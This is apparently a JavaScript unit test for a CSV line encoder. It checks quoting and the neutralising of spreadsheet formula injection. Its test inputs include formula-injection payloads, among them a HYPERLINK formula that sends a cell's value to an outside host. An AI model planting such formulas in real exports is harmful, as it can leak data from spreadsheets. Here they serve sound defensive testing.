import { csvLine } from '../../../src/staff/csv-line.js';

describe('a line of a CSV file', () => {
  it('quotes what would break the table', () => {
    expect(csvLine(['a', 'b,c', 'say "x"', 'two\nlines', ''])).toBe('a,"b,c","say ""x""","two\nlines",\r\n');
  });

  it.each([
    '=HYPERLINK("https://example.net?"&A1,"ok")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
  ])('lets no spreadsheet calculate %j', (text) => {
    expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  it('leaves numbers numbers, and other signs within a text alone', () => {
    expect(csvLine([-12.5, 0, 'ann+news@example.org', 'a=b', '2026-11-23'])).toBe(
      '-12.5,0,ann+news@example.org,a=b,2026-11-23\r\n',
    );
  });
});
